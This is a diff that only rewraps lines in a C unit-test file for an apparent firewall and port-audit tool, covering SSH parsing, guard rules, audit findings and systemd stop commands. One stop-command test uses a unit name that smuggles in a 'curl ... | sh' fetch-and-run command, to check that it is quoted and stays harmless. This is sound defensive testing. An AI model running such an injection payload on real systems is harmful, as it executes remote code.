@@ -31,9 +31,9 @@ static void test_ssh_from_env(void **state)
 	struct portier_fw_conn c;
 
 	(void)state;
-	assert_int_equal(portier_fw_ssh_from_env(
-				 "198.51.100.9 51234 192.0.2.1 22", &c),
-			 0);
+	assert_int_equal(
+		portier_fw_ssh_from_env("198.51.100.9 51234 192.0.2.1 22", &c),
+		0);
 	assert_int_equal(c.lport, 22);
 	assert_int_equal(c.rport, 51234);
 	assert_int_equal(c.family, AF_INET);
@@ -44,10 +44,10 @@ static void test_ssh_from_env(void **state)
 	assert_int_equal(c.lport, 2222);
 	assert_int_equal(c.family, AF_INET6);
 	/* an IPv4 client seen through a dual-stack socket */
-	assert_int_equal(portier_fw_ssh_from_env(
-				 "::ffff:192.0.2.9 40000 ::ffff:192.0.2.1 22",
-				 &c),
-			 0);
+	assert_int_equal(
+		portier_fw_ssh_from_env(
+			"::ffff:192.0.2.9 40000 ::ffff:192.0.2.1 22", &c),
+		0);
 	assert_int_equal(c.family, AF_INET);
 	assert_memory_equal(c.raddr, "\xc0\x00\x02\x09", 4);
 	assert_int_equal(portier_fw_ssh_from_env(NULL, &c), PORTIER_ENOENT);
@@ -91,9 +91,9 @@ static void test_ssh_guard(void **state)
 	int rc;
 
 	(void)state;
-	assert_int_equal(portier_fw_ssh_from_env("10.1.2.3 50000 10.0.0.1 22",
-						 &sess),
-			 0);
+	assert_int_equal(
+		portier_fw_ssh_from_env("10.1.2.3 50000 10.0.0.1 22", &sess),
+		0);
 	/* not allow-only: nothing to add */
 	assert_int_equal(portier_fw_guard_ssh(&p, &sess, NULL), 0);
 	assert_int_equal(p.allow[PORTIER_FW_TCP].n, 0);
@@ -242,13 +242,16 @@ static void test_suggest(void **state)
 			   445),
 		mk_finding(PORTIER_AUDIT_NAME_MISMATCH, PORTIER_RISK_MEDIUM, T,
 			   445),
-		mk_finding(PORTIER_AUDIT_LOCAL_ONLY, PORTIER_RISK_MEDIUM, T, 631),
-		mk_finding(PORTIER_AUDIT_RISKY_PORT, PORTIER_RISK_HIGH, T, 3389),
+		mk_finding(PORTIER_AUDIT_LOCAL_ONLY, PORTIER_RISK_MEDIUM, T,
+			   631),
+		mk_finding(PORTIER_AUDIT_RISKY_PORT, PORTIER_RISK_HIGH, T,
+			   3389),
 		mk_finding(PORTIER_AUDIT_LEGACY_SERVICE, PORTIER_RISK_HIGH, T,
 			   23),
 		mk_finding(PORTIER_AUDIT_WINDOWS_SHARING, PORTIER_RISK_HIGH, U,
 			   137),
-		mk_finding(PORTIER_AUDIT_RISKY_PORT, PORTIER_RISK_MEDIUM, T, 22),
+		mk_finding(PORTIER_AUDIT_RISKY_PORT, PORTIER_RISK_MEDIUM, T,
+			   22),
 		mk_finding(PORTIER_AUDIT_TROJAN_REMOTE, PORTIER_RISK_HIGH, T,
 			   6667),
 		mk_finding(PORTIER_AUDIT_UNKNOWN_PORT, PORTIER_RISK_LOW, T,
@@ -333,7 +336,8 @@ static void test_stop_command(void **state)
 	assert_string_equal(buf, "systemctl disable --now getty@tty1.service");
 	p.unit = "run-u7\\x2dx.service";
 	portier_fw_stop_command(&p, buf, sizeof(buf));
-	assert_string_equal(buf, "systemctl disable --now run-u7\\x2dx.service");
+	assert_string_equal(buf,
+			    "systemctl disable --now run-u7\\x2dx.service");
 	/* a delegated cgroup's chosen name: quoted, one word, no command */
 	p.unit = "x;curl http://e/x|sh #.service";
 	portier_fw_stop_command(&p, buf, sizeof(buf));
@@ -382,8 +386,9 @@ static void test_sshd_guard(void **state)
 		mk_sock(T, PORTIER_SS_LISTEN, "0.0.0.0", 2200, "0.0.0.0", 0),
 	};
 	struct portier_owner owners[] = {
-		{.proc = 0, .fd = 3}, {.proc = 0, .fd = 4}, {.proc = 1, .fd = 5},
-		{.proc = 0, .fd = 6}, {.proc = 2, .fd = 3},
+		{.proc = 0, .fd = 3}, {.proc = 0, .fd = 4},
+		{.proc = 1, .fd = 5}, {.proc = 0, .fd = 6},
+		{.proc = 2, .fd = 3},
 	};
 	struct portier_proc procs[] = {
 		{.pid = 700, .comm = "sshd"},
@@ -435,7 +440,8 @@ static void test_sshd_guard(void **state)
 	assert_non_null(strstr(err.hint, "leave 22 out of the list"));
 	/* ... unless the rules in place drop it already (closed on purpose) */
 	spec_of("22/tcp", &spec);
-	assert_int_equal(portier_fw_policy_close(&before, &spec, NULL, NULL), 0);
+	assert_int_equal(portier_fw_policy_close(&before, &spec, NULL, NULL),
+			 0);
 	portier_fw_spec_free(&spec);
 	assert_int_equal(portier_fw_guard_sshd(&before, &after, &l, NULL), 0);
 	portier_fw_policy_free(&before);
